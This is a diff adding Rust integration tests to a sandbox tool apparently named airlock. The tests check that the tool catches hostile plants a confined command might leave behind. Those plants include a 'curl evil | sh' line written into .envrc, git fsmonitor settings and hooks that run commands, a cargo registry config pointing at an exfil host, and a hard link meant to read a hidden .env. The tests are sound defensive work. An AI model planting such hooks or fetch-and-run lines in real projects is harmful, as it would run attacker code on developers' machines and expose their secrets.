@@ -650,3 +650,267 @@ fn a_replaced_symlinked_startup_file_is_restored() {
         assert!(out.stderr.contains(".zshrc"), "{who:?}: {}", show(&out));
     }
 }
+
+/// A hostile command plants, then waits for the user's ^C, the terminal
+/// closing, or the harness's kill: the check still runs, now or at the
+/// next run.
+#[test]
+fn killing_airlock_does_not_skip_the_check() {
+    for who in Who::all() {
+        for signal in ["TERM", "HUP", "INT", "KILL"] {
+            let f = Fixture::new_in(&base());
+            who.prepare(&f);
+            let child = who
+                .wrap(f.command(
+                    &["--network", "none"],
+                    "echo 'curl evil | sh' > .envrc; mkdir -p .vscode; echo '{}' > .vscode/tasks.json; echo planted; sleep 30",
+                ))
+                .stdout(std::process::Stdio::piped())
+                .stderr(std::process::Stdio::piped())
+                .spawn()
+                .unwrap();
+            let pid = child.id();
+            // Wait until the plant is there.
+            let t = std::time::Instant::now();
+            while !f.ws.join(".vscode/tasks.json").exists() && t.elapsed().as_secs() < 10 {
+                std::thread::sleep(std::time::Duration::from_millis(20));
+            }
+            // Signal airlock itself (under setpriv it is the exec'd process).
+            let _ = Command::new("kill")
+                .args([&format!("-{signal}"), &pid.to_string()])
+                .status();
+            let out = child.wait_with_output().unwrap();
+            let stderr = String::from_utf8_lossy(&out.stderr).to_string();
+            if signal == "KILL" {
+                // The next run finishes the check first.
+                let t = std::time::Instant::now();
+                while process_running("sleep 30") && t.elapsed().as_secs() < 5 {
+                    std::thread::sleep(std::time::Duration::from_millis(20));
+                }
+                let next = sandboxed(&f, who, &["--network", "none"], "echo next");
+                assert!(
+                    next.stderr.contains("finishing the post-run check"),
+                    "{who:?} {signal}: {}",
+                    show(&next)
+                );
+            } else {
+                assert!(
+                    stderr.contains("stopped by signal"),
+                    "{who:?} {signal}: {stderr}"
+                );
+            }
+            assert!(!f.ws.join(".envrc").exists(), "{who:?} {signal}: {stderr}");
+            assert!(!f.ws.join(".vscode").exists(), "{who:?} {signal}: {stderr}");
+        }
+    }
+}
+
+/// Repositories git finds that are not named `.git`, or hide behind odd
+/// names, or in a pre-existing nested repository's submodule.
+#[test]
+fn every_shape_of_nested_repository_is_judged() {
+    if !git_available() {
+        eprintln!("skipped: git is not installed");
+        return;
+    }
+    for who in Who::all() {
+        let f = Fixture::new_in(&base());
+        who.prepare(&f);
+        // A pre-existing nested repository with a submodule's git dir.
+        let vendor = f.ws.join("vendor/lib");
+        std::fs::create_dir_all(vendor.join(".git/modules/sub/hooks")).unwrap();
+        if who == Who::Nobody {
+            airlock_tests::who::chown(&f.ws);
+        }
+        let _ = host(&f, who, &vendor, "git", &["init", "-q", "."]);
+        let marker = f.home.join("PWNED");
+        let m = marker.display();
+        let script = format!(
+            r#"mkdir -p src/objects src/refs; echo "ref: refs/heads/master" > src/HEAD
+               printf '[core]\n\trepositoryformatversion = 0\n\tbare = false\n\tworktree = .\n\tfsmonitor = "touch {m}; false"\n' > src/config
+               d="$(printf 'x\377')"; mkdir -p "$d/r" && (cd "$d/r" && git init -q . && git config core.fsmonitor "touch {m}; false")
+               ln -s "$d/r" tools
+               printf '[core]\n\tfsmonitor = touch {m}\n' > vendor/lib/.git/modules/sub/config
+               printf '#!/bin/sh\ntouch {m}\n' > vendor/lib/.git/modules/sub/hooks/post-checkout
+               git -C vendor/lib config core.fsmonitor "touch {m}; false"
+               echo done"#
+        );
+        let out = sandboxed(&f, who, &["--network", "none"], &script);
+        assert!(out.stdout.contains("done"), "{who:?}: {}", show(&out));
+        for dir in [f.ws.join("src"), f.ws.join("tools"), vendor.clone()] {
+            assert!(
+                dir.is_dir(),
+                "{who:?}: {} is gone\n{}",
+                dir.display(),
+                show(&out)
+            );
+            host_git_runs_nothing(&f, who, &dir, &marker);
+        }
+        assert!(
+            !std::fs::read_to_string(vendor.join(".git/modules/sub/config"))
+                .unwrap_or_default()
+                .contains("fsmonitor"),
+            "{who:?}: {}",
+            show(&out)
+        );
+        assert!(
+            !vendor.join(".git/modules/sub/hooks/post-checkout").exists(),
+            "{who:?}"
+        );
+    }
+}
+
+/// Hooks and configuration that the repository's own configuration points
+/// at, inside the workspace: `core.hooksPath` (husky) and `include.path`.
+#[test]
+fn hooks_path_and_included_config_are_protected() {
+    if !git_available() {
+        eprintln!("skipped: git is not installed");
+        return;
+    }
+    for who in Who::all() {
+        let f = repo(who);
+        f.write("githooks/pre-commit", "#!/bin/sh\nexit 0\n");
+        f.write("team.gitconfig", "[user]\n\tname = team\n");
+        if who == Who::Nobody {
+            airlock_tests::who::chown(&f.ws);
+        }
+        for args in [
+            &["config", "core.hooksPath", "githooks"][..],
+            &["config", "include.path", "../team.gitconfig"],
+        ] {
+            let o = host(&f, who, &f.ws, "git", args);
+            assert_eq!(o.code, 0, "{}", show(&o));
+        }
+        let marker = f.home.join("PWNED");
+        let out = sandboxed(
+            &f,
+            who,
+            &["--network", "none"],
+            &format!(
+                "printf '#!/bin/sh\\ntouch {m}\\n' > githooks/pre-commit; printf '[core]\\n\\tfsmonitor = touch {m}\\n' >> team.gitconfig; echo ok > src.txt && echo wrote",
+                m = marker.display()
+            ),
+        );
+        assert!(out.stdout.contains("wrote"), "{who:?}: {}", show(&out));
+        assert_eq!(
+            std::fs::read_to_string(f.ws.join("githooks/pre-commit")).unwrap(),
+            "#!/bin/sh\nexit 0\n",
+            "{who:?}"
+        );
+        assert_eq!(
+            std::fs::read_to_string(f.ws.join("team.gitconfig")).unwrap(),
+            "[user]\n\tname = team\n",
+            "{who:?}"
+        );
+        host_git_runs_nothing(&f, who, &f.ws, &marker);
+    }
+}
+
+/// A sandbox that makes `sub/.git` (empty, or a real repository) cannot make
+/// `sub` the next run's workspace and so drop the project's policy.
+#[test]
+fn a_planted_repository_does_not_move_the_workspace() {
+    for who in Who::all() {
+        let f = Fixture::new_in(&base());
+        who.prepare(&f);
+        f.write("airlock.toml", "[filesystem]\ndeny_read = [\"secrets\"]\n");
+        f.write("secrets/key", "PROJECT-SECRET");
+        if who == Who::Nobody {
+            airlock_tests::who::chown(&f.ws);
+        }
+        let a = airlock_bin().display().to_string();
+        let t = host(&f, who, &f.ws, &a, &["policy", "trust"]);
+        assert_eq!(t.code, 0, "{}", show(&t));
+        let out = sandboxed(
+            &f,
+            who,
+            &["--network", "none"],
+            "mkdir -p sub/.git && mkdir -p sub2 && cd sub2 && git init -q . 2>/dev/null; echo ok",
+        );
+        assert!(out.stdout.contains("ok"), "{}", show(&out));
+        for sub in ["sub", "sub2"] {
+            let mut c = f.command(&["--network", "none"], "cat ../secrets/key; pwd");
+            c.current_dir(f.ws.join(sub));
+            let out = run(&mut who.wrap(c));
+            assert!(
+                !out.stdout.contains("PROJECT-SECRET"),
+                "{who:?} {sub}: {}",
+                show(&out)
+            );
+        }
+    }
+}
+
+/// A directory the policy makes writable is a writable root for trust too:
+/// what a preset learns from there (a registry cache listing) needs trust.
+#[test]
+fn files_presets_read_in_any_writable_root_need_trust() {
+    for who in Who::all() {
+        let f = Fixture::new_in(&base());
+        f.write(
+            "~/.config/airlock/policy.toml",
+            "presets = [\"cargo\"]\n[filesystem]\nwrite = [\".\", \"~/.cargo\"]\n",
+        );
+        std::fs::create_dir_all(f.home.join(".cargo/registry/index")).unwrap();
+        who.prepare(&f);
+        let out = sandboxed(
+            &f,
+            who,
+            &["--network", "none"],
+            "mkdir -p ~/.cargo/registry/index/evil-registry.test-0123456789abcdef && \
+             echo '{\"dl\":\"https://exfil.test/x\"}' > ~/.cargo/registry/index/evil-registry.test-0123456789abcdef/config.json; echo planted",
+        );
+        assert!(out.stdout.contains("planted"), "{who:?}: {}", show(&out));
+        let out = sandboxed(&f, who, &["--network", "none"], "echo ran");
+        assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
+        assert!(
+            out.stderr.contains("evil-registry.test"),
+            "{who:?}: {}",
+            show(&out)
+        );
+    }
+}
+
+/// `.env` is hidden; a run made it while absent and linked it elsewhere to
+/// read what the user later writes there.
+#[test]
+fn a_hard_link_to_a_hidden_file_is_refused() {
+    for who in Who::all() {
+        let f = Fixture::new_in(&base());
+        let policy = f.write("~/deny.toml", "[filesystem]\ndeny_read = [\".env\"]\n");
+        who.prepare(&f);
+        let p = policy.to_str().unwrap();
+        let out = sandboxed(
+            &f,
+            who,
+            &["--policy", p, "--network", "none"],
+            ": > .env; ln .env .cache-x; echo planted",
+        );
+        assert!(out.stdout.contains("planted"), "{}", show(&out));
+        // The planted name was moved away; if the link survives, the user's
+        // new .env is another file.
+        std::fs::write(f.ws.join(".env"), "TOKEN=s3cret").unwrap();
+        if who == Who::Nobody {
+            airlock_tests::who::chown(&f.ws);
+        }
+        let out = sandboxed(
+            &f,
+            who,
+            &["--policy", p, "--network", "none"],
+            "cat .cache-x .env 2>&1; echo done",
+        );
+        assert!(!out.stdout.contains("s3cret"), "{who:?}: {}", show(&out));
+        // A link made by any other means is refused outright.
+        let _ = std::fs::remove_file(f.ws.join(".cache-x"));
+        std::fs::hard_link(f.ws.join(".env"), f.ws.join("other-link")).unwrap();
+        let out = sandboxed(
+            &f,
+            who,
+            &["--policy", p, "--network", "none"],
+            "cat other-link; echo done",
+        );
+        assert_eq!(out.code, 125, "{who:?}: {}", show(&out));
+        assert!(!out.stdout.contains("s3cret"));
+    }
+}
